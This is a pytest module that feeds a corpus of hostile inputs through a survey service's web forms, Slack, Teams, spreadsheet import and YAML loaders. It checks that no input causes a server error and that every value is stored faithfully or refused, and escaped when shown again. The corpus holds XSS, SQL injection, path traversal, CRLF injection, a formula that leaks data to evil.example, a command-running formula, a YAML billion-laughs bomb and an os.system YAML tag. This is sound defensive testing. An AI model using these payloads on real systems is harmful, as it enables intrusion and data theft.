"""Bad input tried on purpose, through every channel (issue 9): one corpus of nasty values
(markup, SQL, NUL bytes, invalid UTF-8, direction overrides, template syntax, CRLF, huge strings)
sent through the web survey, Slack, Teams, CSV/XLSX import, YAML files and the other CLI commands.

For every case: no 5xx and no traceback; a refused value stores nothing (counts unchanged); a
stored value is exactly what was sent, after the documented normalisation (surrounding
whitespace stripped, CRLF as LF, undecodable bytes as U+FFFD); and where it is shown again it is
escaped. Each channel loops over the corpus inside one test (per database) to stay fast; every
case is counted and tests/conftest.py prints the totals at the end of the run.
"""

from __future__ import annotations

import hashlib
import hmac
import json
import time
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl, quote, urlencode

import pytest
from openpyxl import Workbook
from sqlalchemy import func, select

from bot.teams import render
from storage.database import Database
from storage.models import (
    Action,
    Organisation,
    Plan,
    Response,
    StaffSubmission,
    Survey,
    SurveyDraft,
)
from tests.conftest import DATA, HOSTILE_CASES
from tests.fakes.slack_api import FakeSlackApi
from tests.fakes.teams_connector import FakeConnector
from tests.pages import PageClient
from tests.support.slack_requests import (
    SIGNING_SECRET,
    checkbox_state,
    sample,
    select_state,
    text_state,
    view_submission,
)

SLUG = "mini-survey"
BASE = f"/s/{SLUG}"
PASSWORD = "correct horse battery staple"

# The shared corpus. A value is text (str, possibly holding a lone surrogate) or raw bytes that
# are not valid UTF-8. Channels that carry bytes send them as they are; JSON channels send the
# surrogate escaped (\ud800), which is valid JSON but not encodable text.
CORPUS: dict[str, str | bytes] = {
    "script": "<script>alert(1)</script>",
    "attribute-break": '"><img src=x onerror=alert(1)>',
    "sql-drop": "'; DROP TABLE response; --",
    "sql-bobby": "Robert'); --",
    "nul-byte": "before\x00after",
    "lone-surrogate": "half \ud800 a pair",
    "invalid-utf8": b"caf\xe9 \xff\xfe \xc3(",
    "rtl-override": "invoice\u202egpj.exe",
    "zero-width": "ze\u200dro\u200bwidth\ufeff",
    "emoji": "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f600 \U0001f3f3\ufe0f\u200d\U0001f308",
    "template": "{{ 7*7 }} {% raw %}{{ config }}{% endraw %} ${7*7}",
    "path-traversal": "../../etc/passwd",
    "crlf-injection": "a\r\nSet-Cookie: x=1",
    # Formula injection (OWASP): harmless here, live if a file we write passes it on unquoted.
    "formula-cmd": "=cmd|' /C calc'!A0",
    "formula-hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "formula-plus-at": "+1+1 @SUM(A1:A9)",
    "formula-tab": "\t=1+1",
    "long-number": "9" * 400,
    "negative-huge": "-99999999999999999999.5e308",
    "date-like": "-0001-13-45",
    "empty": "",
    "whitespace": " \t\r\n \u00a0 ",
    "100kb": "<b>bold</b> " * 9_000,
    "2mb": "z" * 2_000_000,
}
MARKUP = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<b>bold</b>")


def tried(channel: str, number: int = 1) -> None:
    HOSTILE_CASES[channel] += number


def raw_bytes(value: str | bytes) -> bytes:
    return value if isinstance(value, bytes) else value.encode("utf-8", "surrogatepass")


def as_text(value: str | bytes) -> str:
    """What a UTF-8 decoder that replaces bad bytes (Werkzeug's, ours) makes of the value."""
    return raw_bytes(value).decode("utf-8", "replace")


def as_form_text(value: str | bytes) -> str:
    """What Werkzeug's form parser makes of the value: bytes that are not UTF-8 stay %-escaped."""
    body = form_body([("v", value)]).decode("ascii")
    return parse_qsl(body, keep_blank_values=True, errors="werkzeug.url_quote")[0][1]


def as_json_text(value: str | bytes) -> str:
    """The value as a JSON channel carries it: bytes decoded, lone surrogates kept."""
    return value.decode("utf-8", "replace") if isinstance(value, bytes) else value


def normalised(text: str) -> str:
    """The documented normalisation of stored free text (see README, "Hostile input")."""
    text = text.encode("utf-8", "surrogatepass").decode("utf-8", "replace")
    return text.replace("\r\n", "\n").strip()


class Problems:
    """Collects every failed check, so one run shows all of them, not only the first."""

    def __init__(self) -> None:
        self.found: list[str] = []

    def check(self, ok: bool, what: str) -> None:
        if not ok:
            self.found.append(what)

    def http(self, response: Any, where: str) -> str:
        body = response.get_data().decode("utf-8", "replace")
        self.check(response.status_code < 500, f"{where}: status {response.status_code}")
        self.check("Traceback" not in body, f"{where}: traceback in the response")
        if response.mimetype == "text/html":
            for markup in MARKUP:
                self.check(markup not in body, f"{where}: unescaped {markup!r} in the page")
        return body

    def done(self) -> None:
        assert not self.found, "\n".join(self.found[:60])


def count(session: Any, model: Any) -> int:
    return session.scalar(select(func.count()).select_from(model))


def form_body(fields: list[tuple[str, str | bytes]]) -> bytes:
    """A urlencoded body carrying the value's bytes as they are (invalid UTF-8 included)."""
    return urlencode([(k, raw_bytes(v)) for k, v in fields]).encode("ascii")


def post_form(http: Any, url: str, fields: list[tuple[str, str | bytes]], **kwargs: Any) -> Any:
    return http.post(
        url,
        data=form_body(fields),
        content_type="application/x-www-form-urlencoded",
        **kwargs,
    )


# --- the web survey --------------------------------------------------------------------------


def begin(client: PageClient) -> None:
    client.post(f"{BASE}/start", expected_status=302)
    client.post(f"{BASE}/consent", {"consent": "y"}, expected_status=302)


def reach_why(client: PageClient) -> None:
    client.post(f"{BASE}/q/about-you", {"la": "E00000001"}, expected_status=302)
    client.post(f"{BASE}/q/info_timely", {"info_timely": "agree"}, expected_status=302)
    client.post(f"{BASE}/q/overall", {"overall": "dissatisfied"}, expected_status=302)


def test_web_survey_forms(make_app: Any, loaded: Any) -> None:
    # Every case comes from one client address in a few seconds: the per-address limits would
    # answer 429 long before the corpus ends, and limits are tested elsewhere.
    app = make_app(
        TESTING=True,
        WTF_CSRF_ENABLED=False,
        RATE_LIMIT_PAGES="100000 per minute",
        RATE_LIMIT_ANSWERS="100000 per minute",
    )
    loaded.commit()
    problems = Problems()
    for name, value in CORPUS.items():
        client = PageClient(app)
        http = client.raw()
        where = f"web[{name}]"
        token = quote(raw_bytes(value)[:3000], safe="")
        # A distribution token and a language switch in the query string.
        problems.http(http.get(f"{BASE}?src={token}"), f"{where} src")
        problems.http(http.get(f"{BASE}/qr.png?src={token}"), f"{where} qr src")
        # A resume token in the path.
        problems.http(http.get(f"{BASE}/resume/{token or 'x'}"), f"{where} resume")
        tried("web", 3)

        begin(client)
        before = count(loaded, Response)
        for url, fields in (
            (f"{BASE}/consent", [("consent", value)]),
            (f"{BASE}/q/about-you", [("la", value)]),
            (f"{BASE}/q/about-you", [("la_search", value), ("search", "la")]),
        ):
            problems.http(post_form(http, url, fields), f"{where} {url} {fields[0][0]}")
            tried("web")
        reach_why(client)
        # Free text: stored as sent (normalised) or refused with a message.
        response = post_form(http, f"{BASE}/q/why", [("why", value)])
        problems.http(response, f"{where} why")
        tried("web")
        accepted = response.status_code == 302
        if not accepted:
            client.post(f"{BASE}/q/why", {"why": "Nobody called back."}, expected_status=302)
        client.post(f"{BASE}/q/recommend", {}, expected_status=302)
        client.post(f"{BASE}/q/support", {}, expected_status=302)
        for url, fields in (
            (f"{BASE}/q/weeks", [("weeks", value)]),
            (
                f"{BASE}/q/requested_on",
                [("requested_on", value), ("requested_on", value), ("requested_on", value)],
            ),
            (
                f"{BASE}/q/requested_on",
                [("requested_on", "1"), ("requested_on", "1"), ("requested_on", value)],
            ),
            (f"{BASE}/save", [("email", value)]),
        ):
            problems.http(post_form(http, url, fields), f"{where} {url}")
            tried("web")
        client.post(f"{BASE}/q/weeks", {"weeks": ""}, expected_status=302)
        client.post(f"{BASE}/q/requested_on", {}, expected_status=302)
        check = client.get(f"{BASE}/check")
        problems.http(check.response, f"{where} check page")
        if name == "script":  # not vacuous: the answer is on the page, as text
            problems.check(ESCAPED_SCRIPT in check.html, f"{where}: escaped script not shown")
        client.post(f"{BASE}/check", {}, expected_status=302)
        after = count(loaded, Response)
        problems.check(after == before + 1, f"{where}: one response stored ({before}->{after})")
        if accepted:
            why = loaded.scalars(select(Response).order_by(Response.id.desc())).first()
            stored = {a.question.key: a.free_text for a in why.answers}.get("why")
            problems.check(
                stored == (normalised(as_form_text(value)) or None),
                f"{where}: stored {stored!r:.60} differs from what was sent",
            )
        # The sign-in form.
        before_drafts = count(loaded, SurveyDraft)
        problems.http(
            post_form(http, "/sign-in", [("email", value), ("password", value)]),
            f"{where} sign-in",
        )
        problems.check(count(loaded, SurveyDraft) == before_drafts, f"{where}: sign-in wrote")
        tried("web")
    problems.done()


# --- Slack -----------------------------------------------------------------------------------


def channel_app(make_app: Any, **settings: Any) -> Any:
    return make_app(
        TESTING=True,
        WTF_CSRF_ENABLED=False,
        **settings,
    )


@pytest.fixture
def slack_app(make_app: Any, loaded: Any, slack_api: FakeSlackApi) -> Any:
    app = channel_app(
        make_app,
        SLACK_SIGNING_SECRET=SIGNING_SECRET,
        SLACK_BOT_TOKEN="xoxb-test",
        SLACK_API_URL=slack_api.url,
        SLACK_WORKERS=1,
    )
    yield app
    app.extensions["yousaid.slack"].executor.shutdown(wait=True)


def signed_post(app: Any, body: bytes, content_type: str) -> Any:
    """Sign the exact bytes (Slack signs the raw body, whatever it holds)."""
    stamp = str(int(time.time()))
    digest = hmac.new(
        SIGNING_SECRET.encode(), b"v0:" + stamp.encode() + b":" + body, hashlib.sha256
    ).hexdigest()
    response = app.test_client().post(
        "/slack/events",
        data=body,
        headers={
            "Content-Type": content_type,
            "X-Slack-Request-Timestamp": stamp,
            "X-Slack-Signature": f"v0={digest}",
        },
    )
    assert app.extensions["yousaid.slack"].executor.drain(timeout=30)
    return response


def slack_interactive(app: Any, payload: dict[str, Any]) -> Any:
    body = urlencode({"payload": json.dumps(payload)}).encode("ascii")
    return signed_post(app, body, "application/x-www-form-urlencoded")


def slack_command(app: Any, text: str | bytes) -> Any:
    form = [
        (k, v)
        for k, v in (
            tuple(pair.split("=", 1))
            for pair in sample("slash_command_body.urlencoded.txt").strip().split("&")
        )
        if k not in {"command", "text"}
    ]
    body = (
        "&".join(f"{k}={v}" for k, v in form)
        + "&"
        + urlencode([("command", "/stars"), ("text", raw_bytes(text))])
    )
    return signed_post(app, body.encode("ascii"), "application/x-www-form-urlencoded")


def stars_form(text: str) -> dict[str, Any]:
    values = {
        "kind": select_state("idea"),
        "workstream": select_state(None),
        "text": text_state(text),
        "action": {"type": "external_select", "selected_option": None},
        "anonymous": checkbox_state(False),
    }
    return view_submission("stars", values, view_id=f"V{time.monotonic_ns()}")


def offer_click(value: str) -> dict[str, Any]:
    payload = sample("block_actions.json")
    payload["actions"] = [
        {
            **payload["actions"][0],
            "action_id": "stars_offer:concern",
            "block_id": "stars_offer",
            "value": value,
        }
    ]
    return payload


def dm_event(text: str, number: int) -> dict[str, Any]:
    payload = sample("event_message_im.slack_docs.json")
    payload["event"]["text"] = text
    payload["event_id"] = f"EvHOSTILE{number}"
    return payload


def staff_normalised(text: str) -> str:
    """Staff submissions keep their text as sent, surrounding whitespace stripped."""
    return text.strip()


def stored_texts(session: Any) -> list[str]:
    session.expire_all()
    return list(session.scalars(select(StaffSubmission.text).order_by(StaffSubmission.id)))


def test_slack_commands_forms_buttons_and_events(slack_app: Any, loaded: Any) -> None:
    problems = Problems()
    for number, (name, value) in enumerate(CORPUS.items()):
        where = f"slack[{name}]"
        text = as_json_text(value)
        offer = json.dumps({"c": "D1", "ts": "1.2", "t": text})
        event = json.dumps(dm_event(text, number)).encode()
        sends: list[tuple[str, Callable[[], Any], str]] = [
            ("slash command", partial(slack_command, slack_app, value), as_text(value)),
            ("view_submission", partial(slack_interactive, slack_app, stars_form(text)), text),
            ("block_actions", partial(slack_interactive, slack_app, offer_click(offer)), text),
            (
                "block_actions raw value",
                partial(slack_interactive, slack_app, offer_click(text)),
                "",
            ),
            ("event", partial(signed_post, slack_app, event, "application/json"), ""),
        ]
        for label, send, sent in sends:
            before = stored_texts(loaded)
            response = send()
            problems.http(response, f"{where} {label}")
            tried("Slack")
            after = stored_texts(loaded)
            if len(after) == len(before) + 1 and sent:
                problems.check(
                    after[-1] == staff_normalised(sent),
                    f"{where} {label}: stored {after[-1]!r:.60} differs from what was sent",
                )
            else:
                problems.check(after == before, f"{where} {label}: stored something unexpected")
    render_submissions(slack_app, loaded, problems, "Slack")
    problems.done()


def render_submissions(app: Any, session: Any, problems: Problems, channel: str) -> None:
    """Officers see each stored submission (list, own page, review queue): escaped, never raw."""
    from tests.support.factories import make_user

    make_user(session, "officer@example.gov.uk", "officer")
    session.commit()
    client = PageClient(app)
    client.post("/sign-in", {"email": "officer@example.gov.uk", "password": PASSWORD}, 302)
    http = client.raw()
    problems.http(http.get("/dashboard/submissions"), f"{channel} dashboard list")
    problems.http(http.get("/dashboard/links"), f"{channel} review queue")
    tried(channel, 2)
    shown = ""
    references = list(session.scalars(select(StaffSubmission.reference)))
    problems.check(len(references) >= len(CORPUS) // 2, f"{channel}: only {references} stored")
    for reference in references:
        shown += problems.http(
            http.get(f"/dashboard/submissions/{reference}"), f"{channel} {reference}"
        )
        tried(channel)
    # Not vacuous: the markup was stored and is on the page, as text.
    problems.check(ESCAPED_SCRIPT in shown, f"{channel}: the escaped script is not shown")
    if channel == "Slack":
        publish_entries(http, problems)


ESCAPED_SCRIPT = "&lt;script&gt;alert(1)&lt;/script&gt;"


def publish_entries(http: Any, problems: Problems) -> None:
    """An officer's "you said, we did" form with each value, then the public page and feed."""
    for name, value in CORPUS.items():
        response = post_form(
            http,
            "/dashboard/you-said-we-did/new",
            [
                ("you_said", value),
                ("we_did", value),
                ("done_on", "15"),
                ("done_on", "10"),
                ("done_on", "2026"),
                ("action", "2.9"),
                ("theme", value),
                ("submissions", ""),
                ("publish", "y"),
            ],
        )
        problems.http(response, f"you-said-we-did form [{name}]")
        tried("you said, we did")
    public = problems.http(http.get("/you-said-we-did"), "public you-said-we-did")
    problems.check(ESCAPED_SCRIPT in public, "public you-said-we-did: escaped script not shown")
    feed = http.get("/you-said-we-did/feed.atom")
    problems.http(feed, "you-said-we-did feed")
    problems.check(b"<script>alert" not in feed.data, "the feed carries raw markup")
    tried("you said, we did", 2)


# --- Teams -----------------------------------------------------------------------------------


def test_teams_messages_and_card_submits(
    make_app: Any, loaded: Any, connector: FakeConnector, tmp_path: Path
) -> None:
    app = channel_app(make_app)
    loaded.commit()
    base = json.loads((DATA / "teams" / "message_personal.msteams_docs.json").read_text())
    base["serviceUrl"] = connector.url
    base.pop("attachments", None)
    http = app.test_client()
    problems = Problems()

    def post(number: int, **changes: Any) -> Any:
        activity = {**base, "id": f"hostile{number}", **changes}
        # ensure_ascii keeps lone surrogates as \ud800 escapes: valid JSON, unencodable text.
        return http.post(
            "/api/messages",
            data=json.dumps(activity, ensure_ascii=True),
            content_type="application/json",
        )

    post(0, text="hello")
    confirm = connector.cards(base["conversation"]["id"])[-1]
    # Without the card's source, each submit is keyed by its own activity id: one per value.
    button = {k: v for k, v in confirm["actions"][0]["data"].items() if k != render.SOURCE_KEY}
    for number, (name, value) in enumerate(CORPUS.items(), start=1):
        where = f"teams[{name}]"
        text = as_json_text(value)
        for label, changes, sent in (
            ("message", {"text": text}, ""),
            (
                "card submit",
                {
                    "value": {**button, "kind": "idea", "text": text, "anonymous": "false"},
                    "replyToId": "1575667808184",
                    "text": None,
                },
                text,
            ),
            ("card value not an object", {"value": text, "text": None}, ""),
            ("kind", {"value": {**button, "kind": text, "text": "ok"}, "text": None}, ""),
        ):
            before = stored_texts(loaded)
            problems.http(post(number * 10 + len(label), **changes), f"{where} {label}")
            tried("Teams")
            after = stored_texts(loaded)
            if len(after) == len(before) + 1 and sent:
                problems.check(
                    after[-1] == staff_normalised(sent),
                    f"{where} {label}: stored {after[-1]!r:.60} differs from what was sent",
                )
            else:
                problems.check(after == before, f"{where} {label}: stored something unexpected")
    for body in (raw_bytes(v) for v in CORPUS.values()):
        problems.http(
            http.post("/api/messages", data=body, content_type="application/json"), "teams body"
        )
        tried("Teams")
    render_submissions(app, loaded, problems, "Teams")
    problems.done()


# --- the command line: CSV/XLSX import, YAML files, other commands ---------------------------


@pytest.fixture
def cli(make_cli: Callable[..., Any], scratch_url: str) -> Iterator[Any]:
    # Exceptions come back in the result, so one bad case is reported, not fatal.
    run = make_cli(
        {"PUBLIC_BASE_URL": "https://example.gov.uk"},
        with_mini_survey=True,
        catch_exceptions=True,
    )
    database = Database(scratch_url)
    run.database = database
    yield run
    database.dispose()


def counts(cli: Any) -> dict[str, int]:
    with cli.database.unit_of_work() as session:
        return {
            model.__name__: count(session, model)
            for model in (Response, Plan, Action, Survey, Organisation, StaffSubmission)
        }


def check_cli(problems: Problems, result: Any, where: str) -> None:
    output = result.output
    problems.check(
        result.exception is None or isinstance(result.exception, SystemExit),
        f"{where}: raised {result.exception!r:.200}",
    )
    problems.check("Traceback" not in output, f"{where}: traceback in the output")
    # Click's own usage errors ("No such option: -9...") exit with 2 and one sentence.
    usage = result.exit_code == 2 and "Usage:" in output
    problems.check(result.exit_code in (0, 1) or usage, f"{where}: exit code {result.exit_code}")
    if result.exit_code in (1, 2):
        errors = [line for line in output.splitlines() if line.startswith("Error")]
        problems.check(len(errors) >= 1, f"{where}: no plain error sentence in {output[:200]!r}")


HEADER = [
    "Timestamp",
    "Which council area do you live in?",
    "I was given the information I needed at the right time.",
    "Overall, how satisfied are you with the assessment?",
    "What could we have done better?",
    "How likely are you to recommend the service to another parent?",
    "Who helped you?",
    "How many weeks did it take?",
    "When did you ask for the assessment?",
    "Email address",
]
GOOD = ["Alpha Borough", "Agree", "Very dissatisfied", "ok", "8", "SENDIASS", "12", "14/01/2025"]


def import_rows(value: str) -> list[list[str]]:
    """One row per column carrying the value (the free text row is expected to import)."""
    rows = []
    for column in range(1, 9):
        cells = list(GOOD)
        cells[column - 1] = value
        rows.append([f"27/03/2025 10:{column:02d}:00", *cells, value])
    rows.append([value, *GOOD, ""])
    return rows


def write_csv(path: Path, rows: list[list[str]], value: str | bytes) -> None:
    import csv
    import io

    if isinstance(value, bytes):  # invalid UTF-8 written as raw bytes in the free text column
        text = io.StringIO()
        csv.writer(text).writerow(HEADER)
        data = text.getvalue().encode()
        line = ["27/03/2025 10:00:00", *GOOD[:3]]
        data += (",".join(line) + ",").encode() + value + b"," + ",".join(GOOD[4:]).encode()
        path.write_bytes(data + b",\r\n")
        return
    with path.open("w", newline="", encoding="utf-8", errors="surrogatepass") as handle:
        writer = csv.writer(handle)
        writer.writerow(HEADER)
        writer.writerows(rows)


def write_xlsx(path: Path, rows: list[list[str]]) -> bool:
    workbook = Workbook()
    sheet = workbook.active
    try:
        sheet.append(HEADER)
        for row in rows:
            sheet.append(row)
        workbook.save(path)
    except Exception:  # openpyxl refuses control characters and surrogates: not writable
        return False
    return True


def test_csv_and_xlsx_import(cli: Any, tmp_path: Path) -> None:
    problems = Problems()
    mapping = DATA / "imports" / "google-forms-mapping.yaml"
    for name, value in CORPUS.items():
        if name == "2mb":
            value = "z" * 200_000  # a 2 MB cell per column would be 18 MB per file; 200 KB
        rows = import_rows(value if isinstance(value, str) else "")
        for kind in ("csv", "xlsx"):
            path = tmp_path / f"hostile.{kind}"
            if kind == "csv":
                write_csv(path, rows, value)
            elif isinstance(value, bytes) or not write_xlsx(path, rows):
                continue
            for mode in ((), ("--skip-bad",)):
                before = counts(cli)
                args = ["import", "responses", "--survey", SLUG, str(path), "--mapping"]
                result = cli(*args, str(mapping), *mode)
                where = f"import {kind} {name} {' '.join(mode)}"
                check_cli(problems, result, where)
                tried("CSV/XLSX import")
                after = counts(cli)
                if result.exit_code != 0:
                    problems.check(after == before, f"{where}: refused but stored something")
    # A file that is not CSV at all, and a binary file named .xlsx.
    for data, suffix in ((b"\x00\x01\x02\xff" * 1000, "csv"), (b"PK\x03\x04garbage", "xlsx")):
        path = tmp_path / f"garbage.{suffix}"
        path.write_bytes(data)
        before = counts(cli)
        result = cli("import", "responses", "--survey", SLUG, str(path), "--mapping", str(mapping))
        check_cli(problems, result, f"import garbage {suffix}")
        problems.check(counts(cli) == before, f"import garbage {suffix}: stored something")
        tried("CSV/XLSX import")
    problems.done()


PLAN = (DATA / "plans" / "mini.yaml").read_text(encoding="utf-8")
SURVEY = (DATA / "surveys" / "mini.yaml").read_text(encoding="utf-8")
ORGS = (DATA / "organisations" / "test-region.yaml").read_text(encoding="utf-8")
BILLION_LAUGHS = "\n".join(
    ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    + [
        f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}" + f",*{chr(97 + i)}" * 8 + "]"
        for i in range(8)
    ]
    + ["slug: *i"]
)


def yaml_string(value: str) -> str:
    """The value as a YAML double-quoted scalar (every character escaped where YAML needs it)."""
    return json.dumps(value, ensure_ascii=True)


def hostile_yaml_files(name: str, value: str | bytes) -> Iterator[tuple[str, str, bytes]]:
    if isinstance(value, bytes):
        for kind, text in (("plan", PLAN), ("survey", SURVEY), ("orgs", ORGS)):
            yield kind, "raw bytes", text.encode().replace(b"Mini SEND plan", value) + value
        return
    quoted = yaml_string(value[:300_000])
    yield "plan", "title", PLAN.replace("title: Mini SEND plan", f"title: {quoted}").encode()
    yield (
        "plan",
        "objective",
        PLAN.replace(
            "objective: To develop a monitoring framework for schools to self assess SEND provision.",
            f"objective: {quoted}",
        ).encode(),
    )
    yield "plan", "ref", PLAN.replace('ref: "1.1"', f"ref: {quoted}").encode()
    yield "plan", "slug", PLAN.replace("slug: mini-plan", f"slug: {quoted}").encode()
    yield (
        "survey",
        "question text",
        SURVEY.replace("text: What could we have done better?", f"text: {quoted}").encode(),
    )
    yield "survey", "key", SURVEY.replace("key: weeks", f"key: {quoted}").encode()
    yield (
        "survey",
        "title",
        SURVEY.replace(
            "title: Your experience of the EHC needs assessment", f"title: {quoted}"
        ).encode(),
    )
    yield "orgs", "name", ORGS.replace("name: Delta Shire", f"name: {quoted}").encode()
    yield "orgs", "code", ORGS.replace("code: E00000004", f"code: {quoted}").encode()


COMMANDS = {"plan": "plan", "survey": "survey", "orgs": "orgs"}


def test_yaml_plan_survey_and_organisation_files(cli: Any, tmp_path: Path) -> None:
    problems = Problems()
    files: list[tuple[str, str, bytes]] = []
    for name, value in CORPUS.items():
        files += [
            (kind, f"{name} {field}", data) for kind, field, data in hostile_yaml_files(name, value)
        ]
    broken = {
        "broken yaml": b"slug: [unclosed\n  - {a: ",
        "tabs and colons": b"\tslug:: :\n\t- - -",
        "binary garbage": bytes(range(256)) * 40,
        "billion laughs": BILLION_LAUGHS.encode(),
        "huge file": PLAN.encode() + b"\n# " + b"x" * 6_000_000 + b"\n",
        "python tag": b"slug: !!python/object/apply:os.system ['echo owned']\n",
        "a list": b"- just\n- a\n- list\n",
        "a number": b"42\n",
        "empty": b"",
        "utf-16": PLAN.encode("utf-16"),
    }
    for kind in ("plan", "survey", "orgs"):
        files += [(kind, label, data) for label, data in broken.items()]
    for kind, label, data in files:
        path = tmp_path / f"hostile-{kind}.yaml"
        path.write_bytes(data)
        before = counts(cli)
        result = cli(COMMANDS[kind], "load", str(path))
        where = f"{kind} load [{label}]"
        check_cli(problems, result, where)
        tried("YAML files")
        if result.exit_code != 0:
            problems.check(counts(cli) == before, f"{where}: refused but stored something")
    problems.done()


def test_other_commands_taking_free_input(cli: Any, tmp_path: Path) -> None:
    problems = Problems()
    lines = b"\n".join(raw_bytes(v)[:200_000].replace(b"\n", b" ") for v in CORPUS.values())
    for args in (("sentiment",), ("links", "suggest")):
        result = cli(*args, input=lines + b"\n")
        check_cli(problems, result, " ".join(args))
        problems.check(result.exit_code == 0, f"{args}: exit {result.exit_code}")
        if result.exit_code == 0:
            out = [line for line in result.output.splitlines() if line.startswith("{")]
            problems.check(len(out) == len(CORPUS), f"{args}: {len(out)} lines for {len(CORPUS)}")
        tried("other CLI", len(CORPUS))
    for name, value in CORPUS.items():
        text = as_json_text(value)[:100_000]
        for args in (
            ("subject", "export", "--email", text),
            ("subject", "export", "--reference", text),
            ("report", "--period", text, "--format", "csv", "--out", str(tmp_path / "r.csv")),
            ("survey", "open", text),
            ("analyse", "themes", "--period", text),
        ):
            result = cli(*args)
            check_cli(problems, result, f"{' '.join(args[:2])} [{name}]")
            tried("other CLI")
    problems.done()
